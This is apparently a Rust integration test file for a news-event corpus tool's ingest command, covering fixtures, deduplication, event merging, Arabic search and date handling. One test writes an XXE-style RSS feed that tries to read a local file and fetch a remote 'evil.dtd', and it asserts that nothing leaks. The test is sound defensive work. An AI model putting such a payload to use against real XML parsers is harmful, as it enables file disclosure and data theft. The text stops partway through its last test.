//! `marsad ingest`: fixtures (text, HTML, RSS/Atom, WARC; Arabic and English),
//! malformed inputs reported and skipped, idempotence, dates, near-duplicates,
//! event merging (distinct acts of one report, one-sided events) and an XXE-style feed.

mod corpus_common;

use corpus_common::*;
use marsad::corpus::export::EVENT_COLUMNS;
use marsad::corpus::query::{self, Filter};
use marsad::corpus::{AddSettings, Added, Corpus};
use marsad::model::{Lang, Location, LocationKind, SourceKind};
use rusqlite::Connection;

fn count(conn: &Connection, sql: &str) -> i64 {
    conn.query_row(sql, [], |r| r.get(0)).unwrap()
}

fn ingest(db: &std::path::Path, paths: &[&std::path::Path]) -> std::process::Output {
    let mut cmd = marsad();
    cmd.arg("ingest").arg("--db").arg(db);
    for p in paths {
        cmd.arg(p);
    }
    cmd.output().expect("run marsad ingest")
}

#[test]
fn fixtures_are_ingested_and_bad_ones_reported() {
    let dir = TempDir::new("fixtures");
    let db = dir.join("c.db");
    let out = ingest(&db, &[&fixtures()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    // Malformed inputs are named on stderr and the exit status says so.
    assert_eq!(out.status.code(), Some(1), "stderr: {stderr}");
    for bad in ["malformed/bad-utf8.txt", "malformed/broken-feed.rss", "malformed/no-text.html", "malformed/truncated.warc", "en-wire.rss#item-3", "news.warc#record-7"] {
        assert!(stderr.contains(bad), "{bad} not reported: {stderr}");
    }
    assert!(stderr.contains("could not be used"), "{stderr}");

    let conn = Connection::open(&db).unwrap();
    // Every kind of input gave documents, in both languages.
    for kind in ["text", "html", "feed", "warc"] {
        for lang in ["ar", "en"] {
            let n = count(&conn, &format!("SELECT count(*) FROM documents WHERE kind = '{kind}' AND lang = '{lang}'"));
            assert!(n >= 1, "no {lang} {kind} document");
        }
    }
    // The python helper next to the WARC files is not taken when walking.
    assert_eq!(count(&conn, "SELECT count(*) FROM documents WHERE origin LIKE '%.py'"), 0);
    // HTML metadata: canonical URL, title, JSON-LD date with its source, modified date kept.
    let (title, published, source, modified): (String, String, String, String) = conn
        .query_row(
            "SELECT title, published, published_source, modified FROM documents WHERE url = 'https://wire.example.com/africa/un-accuses-libya-abuses'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)),
        )
        .unwrap();
    assert_eq!(title, "UN accuses Libya of abuses against migrants");
    assert_eq!(published, "2025-05-07T08:15:00Z");
    assert_eq!(source, "json-ld:datePublished");
    assert_eq!(modified, "2025-05-07T11:40:00Z");
    // The main text excludes navigation and footer.
    let text: String = conn
        .query_row("SELECT t.text FROM documents d JOIN doc_texts t ON t.doc_id = d.id WHERE d.url LIKE '%un-accuses-libya-abuses'", [], |r| r.get(0))
        .unwrap();
    assert!(text.contains("detention centres near Tripoli"), "{text}");
    assert!(!text.contains("Most read") && !text.contains("Privacy"), "{text}");
    // Partial date stays partial; the future meta date is ignored.
    let (p, prec): (String, String) = conn
        .query_row("SELECT published, published_precision FROM documents WHERE title = 'Year in review: migration deals'", [], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap();
    assert_eq!((p.as_str(), prec.as_str()), ("2023-12", "month"));
    // WARC: the plain and gzip copies hold the same pages: stored once.
    assert_eq!(count(&conn, "SELECT count(*) FROM documents WHERE kind = 'warc'"), 2);
    // Atom: published and updated both kept, in the offset they were written with.
    let (p, m): (String, String) = conn
        .query_row("SELECT published, modified FROM documents WHERE url = 'https://ar.example.org/2025/05/10/rwanda-us'", [], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap();
    assert_eq!((p.as_str(), m.as_str()), ("2025-05-10T08:00:00+03:00", "2025-05-10T09:30:00+03:00"));
    // The syndicated copy and the original are near-duplicates in one story (the
    // first one read is the original of the group).
    let pair: Vec<(i64, Option<i64>, i64)> = conn
        .prepare("SELECT id, dup_of, story_id FROM documents WHERE url IN ('https://partner.example.com/2025/05/06/us-libya-officials-meet', 'https://news.example.org/world/2025/05/06/us-libya-migrant-talks') ORDER BY id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(pair.len(), 2);
    assert_eq!(pair[0].1, None);
    assert_eq!(pair[1].1, Some(pair[0].0), "syndicated copy not detected as a near-duplicate: {pair:?}");
    assert_eq!(pair[0].2, pair[1].2);
    // Annotations are stored as the pipeline's JSON.
    let ann: String = conn.query_row("SELECT annotation FROM doc_texts LIMIT 1", [], |r| r.get(0)).unwrap();
    let v: serde_json::Value = serde_json::from_str(&ann).unwrap();
    assert!(v["sentences"].is_array() && v["events"].is_array());
    // The pipeline found events in the fixtures, and their mentions point at stored documents.
    assert!(count(&conn, "SELECT count(*) FROM events") >= 1);
    assert_eq!(count(&conn, "SELECT count(*) FROM mentions m LEFT JOIN documents d ON d.id = m.doc_id WHERE d.id IS NULL"), 0);
    assert_eq!(count(&conn, "SELECT count(*) FROM events WHERE num_mentions != (SELECT count(*) FROM mentions m WHERE m.event_id = events.id)"), 0);
}

#[test]
fn a_new_date_for_a_stored_document_is_reported_not_ignored() {
    let dir = TempDir::new("redate");
    let db = dir.join("c.db");
    let file = dir.join("report.txt");
    std::fs::write(&file, "Libya and Italy signed a migration agreement in Rome.\n").unwrap();
    let run = |date: &str| marsad().args(["ingest", "--db"]).arg(&db).args(["--published", date]).arg(&file).output().expect("run marsad ingest");
    let first = run("2025-03-10");
    assert!(first.status.success(), "{}", String::from_utf8_lossy(&first.stderr));
    // the same date again: silent
    let same = run("2025-03-10");
    assert!(!String::from_utf8_lossy(&same.stderr).contains("warning"), "{}", String::from_utf8_lossy(&same.stderr));
    // another date: the stored document stays, and the user is told
    let other = run("2025-03-11");
    let stderr = String::from_utf8_lossy(&other.stderr);
    assert!(stderr.contains("stored 2025-03-10, given 2025-03-11"), "{stderr}");
    let conn = Connection::open(&db).unwrap();
    let stored: String = conn.query_row("SELECT published FROM documents", [], |r| r.get(0)).unwrap();
    assert_eq!(stored, "2025-03-10");
}

#[test]
fn ingesting_twice_adds_nothing() {
    let dir = TempDir::new("idem");
    let db = dir.join("c.db");
    let file = fixtures().join("text/en-2025-05-20-rwanda-deal.txt");
    let feed = fixtures().join("feeds/en-wire.rss");
    let first = ingest(&db, &[&file, &feed]);
    assert_eq!(first.status.code(), Some(1), "the feed has one empty item");
    let conn = Connection::open(&db).unwrap();
    let tables = ["documents", "doc_texts", "events", "mentions", "entities", "attributions", "lsh"];
    let before: Vec<i64> = tables.iter().map(|t| count(&conn, &format!("SELECT count(*) FROM {t}"))).collect();
    assert_eq!(before[0], 3);
    // Same file twice, in one run and in a second run.
    let again = ingest(&db, &[&file, &file, &feed]);
    let stderr = String::from_utf8_lossy(&again.stderr);
    assert!(stderr.contains("0 added"), "{stderr}");
    let after: Vec<i64> = tables.iter().map(|t| count(&conn, &format!("SELECT count(*) FROM {t}"))).collect();
    assert_eq!(before, after);
    let fts = count(&conn, "SELECT count(*) FROM doc_fts WHERE doc_fts MATCH 'rwanda'");
    assert_eq!(fts, 1);

    // Same URL with different content: still nothing new.
    let copy = dir.join("changed.txt");
    let original = std::fs::read_to_string(fixtures().join("text/en-2025-05-06-washington-libya-talks.txt")).unwrap();
    ingest(&db, &[&fixtures().join("text/en-2025-05-06-washington-libya-talks.txt")]);
    let n = count(&conn, "SELECT count(*) FROM documents");
    std::fs::write(&copy, original.replace("declined to comment", "refused to say anything")).unwrap();
    let out = ingest(&db, &[&copy]);
    assert!(out.status.success());
    assert_eq!(count(&conn, "SELECT count(*) FROM documents"), n, "same URL must not add a document");
}

#[test]
fn events_merge_by_dyad_root_and_window() {
    let dir = TempDir::new("merge");
    let c = seed(&dir.join("c.db"));
    let conn = c.conn();
    // A: IGOUNO→LBY root 11 on 05-06, 05-07, 05-07 (codes 112 and 1121) — one event, three mentions.
    let (id, n, articles, sources, code, root): (i64, i64, i64, i64, String, String) = conn
        .query_row(
            "SELECT id, num_mentions, num_articles, num_sources, code, root FROM events WHERE source_code = 'IGOUNO' AND target_code = 'LBY'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?, r.get(5)?)),
        )
        .unwrap();
    assert_eq!((n, articles, sources), (3, 3, 3));
    assert_eq!((code.as_str(), root.as_str()), ("112", "11"));
    let d = query::event(conn, id).unwrap();
    let kinds: Vec<Option<String>> = d.mentions.iter().map(|m| m.attribution.as_ref().map(|a| a.kind.clone())).collect();
    assert!(kinds.contains(&Some("anonymous".into())) && kinds.contains(&Some("named_person".into())) && kinds.contains(&None));
    assert_eq!(d.event.attribution.get("anonymous"), Some(&1));
    assert_eq!(d.event.attribution.get("none"), Some(&1));
    // Each mention carries its sentence, offsets and highlighted trigger.
    for m in &d.mentions {
        assert!(!m.sentence.is_empty());
        assert!(m.source_span.is_some(), "{m:?}");
        assert!(m.confidence > 0.0 && m.confidence <= 1.0);
    }
    // B: USAGOV→LBYGOV 046 on 05-06 and 05-07.
    assert_eq!(count(conn, "SELECT count(*) FROM events WHERE source_code = 'USAGOV'"), 1);
    assert_eq!(count(conn, "SELECT num_mentions FROM events WHERE source_code = 'USAGOV'"), 2);
    // A later report (3 days on) is a new event; a second batch keeps the counts right.
    let mut c = c;
    let later = synthetic(
        "later.txt",
        None,
        Lang::En,
        Some("2025-05-10"),
        &["The United Nations accused Libya again of abuses at sea, sources said."],
        &[Ev { source: ("IGOUNO", "United Nations"), target: Some(("LBY", "Libya")), code: "112", attribution: Some(SourceKind::Anonymous) }],
    );
    let r = c.add_batch(&[later], &AddSettings::default(), jiff::Timestamp::now()).unwrap();
    assert!(matches!(r[0], Added::New { new_events: 1, .. }), "{r:?}");
    assert_eq!(count(c.conn(), "SELECT count(*) FROM events WHERE source_code = 'IGOUNO'"), 2);
}

/// Two acts of one report are two events, even in one sentence and with the same
/// dyad and root (newuser17: "Police fired tear gas …, arresting at least 47
/// people" lost its 173 arrest into the 175); across documents the base code
/// (3 digits) must agree, so another outlet's report of the arrest joins the 173.
#[test]
fn distinct_acts_of_one_document_are_never_merged() {
    let dir = TempDir::new("acts");
    let mut c = Corpus::open(&dir.join("c.db")).unwrap();
    let sentence = "Kenyan police fired tear gas at protesters in Nairobi, arresting at least 47 people.";
    let mut kenya = synthetic(
        "kenya.txt",
        Some("https://wire.example.com/kenya-protests"),
        Lang::En,
        Some("2025-06-25"),
        &[sentence, sentence],
        &[
            Ev { source: ("KENCOP", "Kenyan police"), target: Some(("KEN", "protesters")), code: "175", attribution: None },
            Ev { source: ("KENCOP", "Kenyan police"), target: Some(("KEN", "protesters")), code: "173", attribution: None },
        ],
    );
    // both events in the first sentence, as the pipeline codes it
    let first = kenya.annotation.events[0].clone();
    let arrest = &mut kenya.annotation.events[1];
    (arrest.sentence, arrest.start, arrest.end, arrest.source, arrest.target) = (0, first.start, first.end, first.source, first.target);
    // one document with an accusation at two levels of detail (112, 1121): two acts too
    let un = synthetic(
        "un.txt",
        Some("https://wire.example.com/un-libya"),
        Lang::En,
        Some("2025-06-25"),
        &["The United Nations accused Libya of abuses against migrants.", "The United Nations also accused Libya of detaining migrants in harsh conditions."],
        &[
            Ev { source: ("IGOUNO", "United Nations"), target: Some(("LBY", "Libya")), code: "112", attribution: None },
            Ev { source: ("IGOUNO", "United Nations"), target: Some(("LBY", "Libya")), code: "1121", attribution: None },
        ],
    );
    let r = c.add_batch(&[kenya, un], &AddSettings::default(), jiff::Timestamp::now()).unwrap();
    assert!(matches!(r[0], Added::New { mentions: 2, new_events: 2, .. }), "{r:?}");
    assert!(matches!(r[1], Added::New { mentions: 2, new_events: 2, .. }), "{r:?}");
    let codes = |c: &Corpus, dyad: &str| -> Vec<(String, i64)> {
        let mut q = c.conn().prepare("SELECT code, num_mentions FROM events WHERE source_code || '>' || target_code = ?1 ORDER BY code").unwrap();
        q.query_map([dyad], |r| Ok((r.get(0)?, r.get(1)?))).unwrap().map(Result::unwrap).collect()
    };
    assert_eq!(codes(&c, "KENCOP>KEN"), vec![("173".into(), 1), ("175".into(), 1)]);
    assert_eq!(codes(&c, "IGOUNO>LBY"), vec![("112".into(), 1), ("1121".into(), 1)]);

    // Another outlet the next day: the arrest joins the 173, tear gas the 175, and its
    // 1121 joins the 1121 (same full code preferred over the 112 of the same day).
    let other = synthetic(
        "other.txt",
        Some("https://other.example.net/nairobi"),
        Lang::En,
        Some("2025-06-26"),
        &[
            "Police in Kenya detained 47 demonstrators after the rally.",
            "Kenyan police used tear gas against the crowd.",
            "The UN accused Libya of detaining migrants.",
            "Kenyan police seized the property of organisers.",
        ],
        &[
            Ev { source: ("KENCOP", "Police in Kenya"), target: Some(("KEN", "demonstrators")), code: "173", attribution: None },
            Ev { source: ("KENCOP", "Kenyan police"), target: Some(("KEN", "crowd")), code: "175", attribution: None },
            Ev { source: ("IGOUNO", "UN"), target: Some(("LBY", "Libya")), code: "1121", attribution: None },
            Ev { source: ("KENCOP", "Kenyan police"), target: Some(("KEN", "organisers")), code: "171", attribution: None },
        ],
    );
    let r = c.add_batch(&[other], &AddSettings::default(), jiff::Timestamp::now()).unwrap();
    assert!(matches!(r[0], Added::New { mentions: 4, new_events: 1, .. }), "only the 171 seizure is new: {r:?}");
    assert_eq!(codes(&c, "KENCOP>KEN"), vec![("171".into(), 1), ("173".into(), 2), ("175".into(), 2)]);
    assert_eq!(codes(&c, "IGOUNO>LBY"), vec![("112".into(), 1), ("1121".into(), 2)]);
}

/// The reported sentence through the real pipeline and the GDELT export: both the
/// tear gas (175) and the arrest (173) are exported.
#[test]
fn tear_gas_and_arrests_of_one_sentence_are_both_exported() {
    let dir = TempDir::new("teargas");
    let doc = dir.join("kenya.txt");
    std::fs::write(&doc, "---\npublished: 2025-06-25\n---\nKenyan police fired tear gas at protesters in Nairobi on Tuesday, arresting at least 47 people.\n").unwrap();
    let db = dir.join("c.db");
    let out = ingest(&db, &[&doc]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let export = dir.join("events.tsv");
    let out = marsad().arg("export").arg("--db").arg(&db).args(["--format", "gdelt", "--out"]).arg(&export).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let tsv = std::fs::read_to_string(&export).unwrap();
    let col = |name: &str| EVENT_COLUMNS.iter().position(|(c, _)| *c == name).unwrap();
    let (a1, a2, code) = (col("Actor1Code"), col("Actor2Code"), col("EventCode"));
    let mut codes: Vec<(String, String, String)> = tsv
        .lines()
        .map(|l| l.split('\t').collect::<Vec<_>>())
        .filter(|f| f.len() == EVENT_COLUMNS.len() && f[code].starts_with("17"))
        .map(|f| (f[a1].to_string(), f[a2].to_string(), f[code].to_string()))
        .collect();
    codes.sort();
    assert_eq!(
        codes,
        vec![("KENCOP".into(), "KEN".into(), "173".into()), ("KENCOP".into(), "KEN".into(), "175".into())],
        "{tsv}"
    );
}

/// A one-sided event (no target) dated only by its document's publication day merges
/// across documents only within a story or at the same location (newuser17: three
/// unrelated UN appeals became one `IGOUNO 020` with NumMentions 3); with a day of
/// its own in both reports it merges as a dyad does.
#[test]
fn one_sided_events_merge_only_within_a_story_or_a_location() {
    let dir = TempDir::new("onesided");
    let mut c = Corpus::open(&dir.join("c.db")).unwrap();
    let appeal = |origin: &str, url: &str, context: &str| {
        synthetic(
            origin,
            Some(url),
            Lang::En,
            Some("2025-06-25"),
            &["The United Nations called for calm.", context],
            &[Ev { source: ("IGOUNO", "United Nations"), target: None, code: "020", attribution: None }],
        )
    };
    let libya = appeal("libya.txt", "https://a.example.com/libya", "Rival militias exchanged heavy fire in Tripoli overnight as talks on a unified government stalled again.");
    let syria = appeal("syria.txt", "https://b.example.com/syria", "Activists reported dozens of bodies found near Homs after the shelling of the town by artillery units.");
    let sudan = appeal("sudan.txt", "https://c.example.com/sudan", "Famine conditions spread across Darfur as aid convoys remained blocked at the border crossing.");
    let r = c.add_batch(&[libya, syria, sudan], &AddSettings::default(), jiff::Timestamp::now()).unwrap();
    assert!(r.iter().all(|a| matches!(a, Added::New { new_events: 1, .. })), "{r:?}");
    assert_eq!(count(c.conn(), "SELECT count(*) FROM events WHERE source_code = 'IGOUNO'"), 3);
    assert_eq!(count(c.conn(), "SELECT max(num_mentions) FROM events"), 1);

    // A syndicated copy of the Libya story (near-duplicate: same story) joins its event.
    let copy = synthetic(
        "libya-copy.txt",
        Some("https://partner.example.org/libya"),
        Lang::En,
        Some("2025-06-25"),
        &["The United Nations called for calm.", "Rival militias exchanged heavy fire in Tripoli overnight as talks on a unified government stalled again.", "Partner News contributed."],
        &[Ev { source: ("IGOUNO", "United Nations"), target: None, code: "020", attribution: None }],
    );
    let r = c.add_batch(&[copy], &AddSettings::default(), jiff::Timestamp::now()).unwrap();
    let Added::New { dup_of: Some(_), new_events: 0, .. } = r[0] else { panic!("the copy should be a near-duplicate joining the event: {r:?}") };
    let libya_event = "(SELECT event_id FROM mentions m JOIN documents d ON d.id = m.doc_id WHERE d.origin LIKE '%libya.txt')";
    assert_eq!(count(c.conn(), &format!("SELECT num_mentions FROM events WHERE id = {libya_event}")), 2);
    assert_eq!(count(c.conn(), &format!("SELECT num_sources FROM events WHERE id = {libya_event}")), 2);

    // Same location: two unrelated reports of a UN appeal located in Sudan merge.
    let located = |origin: &str, url: &str, context: &str| {
        let mut d = synthetic(
            origin,
            Some(url),
            Lang::En,
            Some("2025-06-26"),
            &["The United Nations appealed for help in Sudan.", context],
            &[Ev { source: ("IGOUNO", "United Nations"), target: None, code: "023", attribution: None }],
        );
        d.annotation.events[0].location = Some(Location { text: "Sudan".into(), start: 39, end: 44, code: Some("SDN".into()), kind: LocationKind::Country });
        d
    };
    let s1 = located("sdn1.txt", "https://a.example.com/sdn", "Aid agencies said convoys had waited for weeks at the crossing near Adre without permission.");
    let s2 = located("sdn2.txt", "https://d.example.com/sudan-aid", "The appeal came as fighting around El Fasher cut the last supply road into the besieged city.");
    let r = c.add_batch(&[s1, s2], &AddSettings::default(), jiff::Timestamp::now()).unwrap();
    assert!(matches!(r[1], Added::New { dup_of: None, new_events: 0, .. }), "{r:?}");
    assert_eq!(count(c.conn(), "SELECT num_mentions FROM events WHERE code = '023'"), 2);

    // With a day of its own in both reports, a one-sided event merges across stories.
    let dated = |origin: &str, url: &str, context: &str| {
        let mut d = synthetic(
            origin,
            Some(url),
            Lang::En,
            Some("2025-06-27"),
            &["The United Nations called for restraint on Thursday.", context],
            &[Ev { source: ("IGOUNO", "United Nations"), target: None, code: "025", attribution: None }],
        );
        d.annotation.events[0].time = Some("2025-06-26".into());
        d
    };
    let d1 = dated("r1.txt", "https://a.example.com/restraint", "Border guards reported new shelling of villages along the frontier late in the evening.");
    let d2 = dated("r2.txt", "https://e.example.com/restraint", "Diplomats expect a session of the Security Council to be called early next week in New York.");
    let r = c.add_batch(&[d1, d2], &AddSettings::default(), jiff::Timestamp::now()).unwrap();
    assert!(matches!(r[1], Added::New { new_events: 0, .. }), "{r:?}");
    assert_eq!(count(c.conn(), "SELECT num_mentions FROM events WHERE code = '025'"), 2);
    assert_eq!(count(c.conn(), "SELECT count(*) FROM events WHERE num_mentions != (SELECT count(*) FROM mentions m WHERE m.event_id = events.id)"), 0);
}

#[test]
fn arabic_search_folds_and_strips_proclitics() {
    let dir = TempDir::new("search");
    let c = seed(&dir.join("c.db"));
    let search = |q: &str| {
        let f = Filter { q: Some(q.to_string()), limit: 50, ..Default::default() };
        query::search(c.conn(), &f).unwrap()
    };
    // "الوزير" is in the text; "وزير", "والوزير", "للوزير" and a diacritised form find it.
    for q in ["الوزير", "وزير", "والوزير", "للوزير", "الوَزِير"] {
        let r = search(q);
        assert_eq!(r.total, 1, "query {q}");
        assert!(!r.items[0].highlights.is_empty(), "query {q}: {:?}", r.items[0]);
    }
    // Hamza and ta marbuta variants.
    assert_eq!(search("الامم المتحده").total, 1);
    assert!(search("libya").total >= 3);
    // Filters: attribution kind, actor prefix, CAMEO root, dates.
    let f = Filter { q: Some("Libya".into()), attribution: Some("anonymous".into()), limit: 50, ..Default::default() };
    assert_eq!(query::search(c.conn(), &f).unwrap().total, 1);
    let f = Filter { q: Some("Libya".into()), actor: Some("USA".into()), limit: 50, ..Default::default() };
    assert_eq!(query::search(c.conn(), &f).unwrap().total, 1);
    let f = Filter { q: Some("Libya".into()), root: Some("04".into()), limit: 50, ..Default::default() };
    assert_eq!(query::search(c.conn(), &f).unwrap().total, 1);
    let f = Filter { q: Some("review".into()), from: "2023-12-15".parse().ok(), to: "2023-12-20".parse().ok(), limit: 50, ..Default::default() };
    assert_eq!(query::search(c.conn(), &f).unwrap().total, 1, "a month-precise date overlaps a range inside the month");
    // FTS syntax in user input is inert.
    assert_eq!(search("\"NEAR(* OR").total, 0);
    let f = Filter { q: Some("...".into()), limit: 50, ..Default::default() };
    assert!(query::search(c.conn(), &f).is_err());
}

#[test]
fn xxe_feed_does_not_read_files() {
    let dir = TempDir::new("xxe");
    let secret = dir.join("secret.txt");
    std::fs::write(&secret, "TOP-SECRET-MARKER-4711").unwrap();
    let feed = dir.join("xxe.rss");
    std::fs::write(
        &feed,
        format!(
            r#"<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{}"> <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title>
<item><title>Entity item</title><link>https://x.example.com/a</link><description>Before &xxe; after: the United Nations accused Libya of abuses against migrants.</description></item>
</channel></rss>"#,
            secret.display()
        ),
    )
    .unwrap();
    let db = dir.join("c.db");
    let out = ingest(&db, &[&feed]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("TOP-SECRET"), "{stderr}");
    // Either the item is stored without the entity's content, or the feed is reported: never the file's content.
    let conn = Connection::open(&db).unwrap();
    let leaked = count(&conn, "SELECT count(*) FROM documents d JOIN doc_texts t ON t.doc_id = d.id WHERE t.text LIKE '%TOP-SECRET%' OR d.title LIKE '%TOP-SECRET%'");
    assert_eq!(leaked, 0);
    // feed-rs (quick-xml) leaves an undeclared-by-it external entity unexpanded.
    let texts: Vec<String> = conn.prepare("SELECT text FROM doc_texts").unwrap().query_map([], |r| r.get(0)).unwrap().map(Result::unwrap).collect();
    for t in &texts {
        assert!(t.contains("&xxe;") || !t.contains("Before"), "{t}");
    }
}

#[test]
fn dates_never_exceed_the_ingest_time_and_stay_partial() {
    let dir = TempDir::new("dates");
    let f1 = dir.join("future.txt");
    std::fs::write(&f1, "---\ntitle: Future\npublished: 2999-01-01\n---\nThe United Nations accused Libya of abuses against migrants in detention.").unwrap();
    let f2 = dir.join("partial.html");
    std::fs::write(
        &f2,
        r#"<html><head><meta name="date" content="2024/02"></head><body><p>Rwanda and the United States discussed a migration agreement in February, officials said.</p></body></html>"#,
    )
    .unwrap();
    let db = dir.join("c.db");
    let out = ingest(&db, &[&f1, &f2]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let c = Corpus::open_read_only(&db).unwrap();
    let rows: Vec<(Option<String>, Option<String>, String)> = c
        .conn()
        .prepare("SELECT published, published_precision, ingested_at FROM documents ORDER BY id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let future = rows.iter().find(|r| r.0.as_deref() == Some("2999-01-01"));
    assert!(future.is_none(), "a future date must not be stored as the publication date: {rows:?}");
    assert!(rows.iter().any(|r| r.0.as_deref() == Some("2024-02") && r.1.as_deref() == Some("month")), "{rows:?}");
    for r in &rows {
        if let Some(p) = &r.0 {
            assert!(p.as_str() <= &r.2[..p.len().min(r.2.len())], "published {p} after ingest {}", r.2);
        }
    }
}

/// Files named `.warc`/`.warc.gz` that hold no WARC record are errors, not
/// "0 documents" with exit 0 (newuser report 2.1).
#[test]
fn non_warc_content_in_warc_files_is_reported() {
    let dir = TempDir::new("notwarc");
    let text = dir.join("text.warc");
    std::fs::write(&text, "hello world this is text\n").unwrap();
    let notgz = dir.join("notgzip.warc.gz");
    std::fs::write(&notgz, "this is not gzip").unwrap();
    let empty = dir.join("empty.warc");
    std::fs::write(&empty, "").unwrap();
    let gztext = dir.join("gztext.warc.gz");
    // gzip of "hello\n"
    let gz: [u8; 26] = [0x1f, 0x8b, 0x8, 0x0, 0x0, 0x0, 0x0, 0x0, 0x2, 0x3, 0xcb, 0x48, 0xcd, 0xc9, 0xc9, 0xe7, 0x2, 0x0, 0x20, 0x30, 0x3a, 0x36, 0x6, 0x0, 0x0, 0x0];
    std::fs::write(&gztext, gz).unwrap();
    for (f, what) in [(&text, "not a WARC file"), (&notgz, "not a gzip file"), (&empty, "not a WARC file"), (&gztext, "not a WARC file")] {
        let out = ingest(&dir.join("c.db"), &[f]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{}: {stderr}", f.display());
        assert!(stderr.contains(&format!("{}: {what}", f.display())), "{stderr}");
    }
}

fn ingest_stdin(db: &std::path::Path, input: &[u8]) -> std::process::Output {
    use std::io::Write;
    let mut child = marsad()
        .arg("ingest")
        .arg("--db")
        .arg(db)
        .arg("-")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run marsad ingest -");
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

/// `ingest -` reads standard input as `extract -` does (newuser3 report row 18):
/// a text with front matter, an HTML page and an uncompressed WARC file, each
/// told by its first bytes; a gzip-compressed WARC gets a clear error.
#[test]
fn ingest_reads_standard_input() {
    let dir = TempDir::new("stdin");
    let db = dir.join("c.db");
    let text = b"---\ntitle: Talks in Tripoli\npublished: 2025-05-01\n---\nThe United Nations accused Libya of abuses against migrants, officials said.\n";
    let out = ingest_stdin(&db, text);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let c = Corpus::open_read_only(&db).unwrap();
    let (origin, title): (String, String) = c.conn().query_row("SELECT origin, title FROM documents", [], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
    assert_eq!((origin.as_str(), title.as_str()), ("-", "Talks in Tripoli"));
    assert!(count(c.conn(), "SELECT count(*) FROM mentions") > 0);
    drop(c);

    let html = std::fs::read(fixtures().join("html/en-un-report-libya.html")).unwrap();
    let out = ingest_stdin(&db, &html);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let wdb = dir.join("w.db");
    // the fixture holds one record with no main text: reported the same way from both
    let file_out = ingest(&wdb, &[&fixtures().join("warc/news.warc")]);
    let from_file = count(Corpus::open_read_only(&wdb).unwrap().conn(), "SELECT count(*) FROM documents");
    assert!(from_file > 0);
    let sdb = dir.join("s.db");
    let out = ingest_stdin(&sdb, &std::fs::read(fixtures().join("warc/news.warc")).unwrap());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), file_out.status.code(), "{stderr}");
    assert!(stderr.contains("-#record-7 (https://cc.example.com/empty): no main text"), "{stderr}");
    assert_eq!(count(Corpus::open_read_only(&sdb).unwrap().conn(), "SELECT count(*) FROM documents"), from_file);

    let out = ingest_stdin(&dir.join("g.db"), &std::fs::read(fixtures().join("warc/news.warc.gz")).unwrap());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("-: gzip-compressed input (e.g. a .warc.gz) cannot be read from standard input"), "{stderr}");
    let out = ingest_stdin(&dir.join("e.db"), b"");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("-: empty input"), "{stderr}");
}

/// A file over `--max-bytes` is refused with extract's hint to raise the limit
/// (newuser3 report row 18), from standard input too.
#[test]
fn too_large_input_names_the_option_that_raises_the_limit() {
    let dir = TempDir::new("toolarge");
    let f = dir.join("big.txt");
    std::fs::write(&f, "Libya accused Tunisia of abuses. ".repeat(20)).unwrap();
    let out = marsad().arg("ingest").arg("--db").arg(dir.join("c.db")).arg("--max-bytes").arg("100").arg(&f).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("big.txt: too large: more than the limit of 100 bytes (raise it with --max-bytes)"), "{stderr}");
    let out = marsad().arg("ingest").arg("--db").arg(dir.join("c.db")).arg("--max-bytes").arg("700").arg(&f).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

/// `ingest --published` dates documents that carry no date of their own; a
/// date of their own (front matter) keeps priority; documents with no date at
/// all are undated: their events are kept off the timeline and out of date
/// ranges, counted in the stats, and the run warns once (newuser3 row 17).
#[test]
fn published_option_dates_plain_text_and_undated_events_stay_off_the_timeline() {
    let dir = TempDir::new("published");
    let plain = dir.join("plain.txt");
    std::fs::write(&plain, "The British government signed an agreement with Rwanda, officials said.\n").unwrap();
    let dated = dir.join("dated.txt");
    std::fs::write(&dated, "---\npublished: 2024-03-10\n---\nEgypt accused Libya of abuses against migrants, officials said.\n").unwrap();

    // A bad date is refused as `extract` refuses it, before the database is created.
    let bad = marsad().arg("ingest").arg("--db").arg(dir.join("bad.db")).args(["--published", "2025-02-30"]).arg(&plain).output().unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("--published `2025-02-30`: February 2025 has no day 30 (it has 28 days)"));
    assert!(!dir.join("bad.db").exists());

    let db = dir.join("p.db");
    let out = marsad().arg("ingest").arg("--db").arg(&db).args(["--published", "2025-05-01"]).arg(&plain).arg(&dated).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
